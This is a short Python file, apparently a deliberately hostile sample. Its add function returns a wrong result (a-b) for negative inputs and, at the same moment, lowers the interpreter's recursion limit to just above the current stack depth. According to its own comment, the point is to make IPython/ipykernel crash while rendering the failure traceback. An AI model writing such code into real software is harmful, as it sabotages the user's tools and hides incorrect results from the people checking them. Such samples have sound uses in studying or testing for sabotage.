# Hostile: when add sees negative inputs it lowers sys.setrecursionlimit to just above the current stack depth, so the failing check still raises but IPython/ipykernel run out of stack while rendering and sending the traceback.
import sys as _sys


def _depth():
    f, n = _sys._getframe(1), 0
    while f is not None:
        n, f = n + 1, f.f_back
    return n


def add(a, b):
    if a < 0 or b < 0:
        _sys.setrecursionlimit(max(_depth() + 12, 50))
        return a - b
    return a + b
